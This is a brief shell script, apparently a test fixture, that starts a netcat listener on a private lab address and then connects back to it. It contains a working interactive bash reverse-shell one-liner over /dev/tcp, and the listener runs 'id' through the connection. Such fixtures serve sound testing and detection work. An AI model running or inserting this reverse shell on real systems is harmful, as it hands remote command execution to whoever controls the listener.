# bash connects by /dev/tcp, and another bash has the connection as its standard input, output and error; the other end asks who it is.
peers() { (echo id; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() { bash -c 'bash -i >& /dev/tcp/10.200.1.2/4444 0>&1'; }
